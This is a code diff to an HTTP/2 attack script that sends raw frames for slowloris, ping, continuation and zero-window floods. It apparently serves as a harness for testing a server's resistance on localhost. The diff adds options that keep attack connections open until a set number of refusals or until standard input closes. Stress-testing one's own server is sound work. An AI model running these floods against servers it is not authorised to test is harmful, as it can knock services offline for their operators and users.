@@ -1,10 +1,12 @@
 """Attacks on an HTTP/2 server as raw frames over a socket, without a library.
 
   attacks.py NAME HOST:PORT [--tls] [--source ADDRESS] [--seconds N] [--count N]
-             [--connections N]
+             [--refusals N] [--connections N] [--until-eof]
 
-Runs one of ATTACKS until it has done `count` of what it does, its time is up or
-so many connections were made, and prints what it did as JSON: "done",
+Runs one of ATTACKS until it has done `count` of what it does and so many
+connections were refused, or as many were made as may be, or its time is up.
+With --until-eof what has no end, and what holds connections, goes on after that
+for as long as standard input is open. Prints what it did as JSON: "done",
 "connections", and "refused", the connections that the server closed.
 """
 
@@ -85,7 +87,8 @@ class Connection:
         self._pongs = 0
         try:
             self._socket = socket.create_connection(
-                target.address, timeout=5, source_address=(target.source, 0))
+                target.address, timeout=target.seconds,
+                source_address=(target.source, 0))
             if target.tls is not None:
                 self._socket = target.tls.wrap_socket(
                     self._socket, server_hostname="localhost")
@@ -153,20 +156,40 @@ class Connection:
 class Target:
     """Whom to attack, from where, how long, and what came of it."""
 
-    def __init__(self, address, source, tls, seconds, count, max_connections):
-        host, port = address.rsplit(":", 1)
+    def __init__(self, options, tls):
+        host, port = options.address.rsplit(":", 1)
         self.address = (socket.gethostbyname(host), int(port))
-        self.source = source
+        self.source = options.source
         self.tls = tls
-        self.deadline = time.monotonic() + seconds
-        self.count = count
-        self.max_connections = max_connections
+        self.seconds = options.seconds
+        self.deadline = time.monotonic() + options.seconds
+        whole = ATTACKS[options.name][1]
+        self.count = whole or sys.maxsize
+        if options.count is not None:
+            self.count = options.count
+        self.max_connections = options.connections
         self.done = 0
         self.connections = 0
         self.refused = 0
+        self._refusals = options.refusals
+        self._has_end = whole is not None
+        self._may_end = not options.until_eof
 
     def going(self):
-        return self.done < self.count and time.monotonic() < self.deadline
+        return time.monotonic() < self.deadline and (
+            self.done < self.count or self.refused < self._refusals or
+            not (self._has_end or self._is_told_to_end()))
+
+    def holding(self):
+        """Whether the connections that are open are to stay so."""
+        return time.monotonic() < self.deadline and (
+            self.refused < self._refusals or not self._is_told_to_end())
+
+    def _is_told_to_end(self):
+        if not self._may_end:
+            readable, _, _ = select.select([sys.stdin], [], [], 0)
+            self._may_end = bool(readable)
+        return self._may_end
 
     def attack(self, act, **connect):
         """`act` on connections one after another, until it is enough."""
@@ -253,7 +276,7 @@ ping_flood = flood_with(frame(PING, 0, 0, b"12345678") * 100, 100)
 
 
 def slowloris(target):
-    """Many connections whose requests come a byte a second, at every stage:
+    """Many connections whose requests come byte by byte, at every stage:
     preface, header, body."""
     begins = [b"", PREFACE[:5], PREFACE + frame(SETTINGS, 0, 0),
               PREFACE + frame(SETTINGS, 0, 0)
@@ -272,18 +295,20 @@ def slowloris(target):
             continue
         connections.append((connection, rests[i % len(rests)]))
         target.connections += 1
-    second = 0
-    while connections and time.monotonic() < target.deadline:
+    at = 0
+    while connections:
         for entry in list(connections):
             connection, rest = entry
             try:
-                connection.send(rest[second:second + 1])
+                connection.send(rest[at:at + 1])
                 target.done += 1
             except (Closed, TimeoutError):
                 target.refused += 1
                 connections.remove(entry)
-        second += 1
-        time.sleep(max(0, min(1, target.deadline - time.monotonic())))
+        at += 1
+        if not target.holding():
+            break
+        time.sleep(0.1)
     for connection, _ in connections:
         connection.close()
 
@@ -305,7 +330,7 @@ def zero_window(target):
             connections.append(connection)
         except (Closed, TimeoutError):
             target.refused += 1
-    while connections and time.monotonic() < target.deadline:
+    while connections and target.holding():
         time.sleep(0.05)
         for connection in list(connections):
             try:
@@ -317,8 +342,8 @@ def zero_window(target):
         connection.close()
 
 
-# With how much of it is all of it; as much as there is time for where that is
-# None.
+# With how much of it is all of it; None: it has no end. Of `slowloris` it is
+# the connections.
 ATTACKS = {
     "unfinished_header": (unfinished_header, None),
     "continuation_flood": (continuation_flood, None),
@@ -338,7 +363,9 @@ def main():
     arguments.add_argument("--source", default="127.0.0.2")
     arguments.add_argument("--seconds", type=float, default=10)
     arguments.add_argument("--count", type=int)
+    arguments.add_argument("--refusals", type=int, default=0)
     arguments.add_argument("--connections", type=int, default=sys.maxsize)
+    arguments.add_argument("--until-eof", action="store_true")
     options = arguments.parse_args()
     tls = None
     if options.tls:
@@ -346,12 +373,9 @@ def main():
         tls.check_hostname = False
         tls.verify_mode = ssl.CERT_NONE
         tls.set_alpn_protocols(["h2"])
-    attack, count = ATTACKS[options.name]
-    target = Target(options.address, options.source, tls, options.seconds,
-                    options.count or count or sys.maxsize,
-                    options.connections)
+    target = Target(options, tls)
     begin = time.monotonic()
-    attack(target)
+    ATTACKS[options.name][0](target)
     json.dump({"done": target.done, "connections": target.connections,
                "refused": target.refused,
                "seconds": round(time.monotonic() - begin, 2)}, sys.stdout)
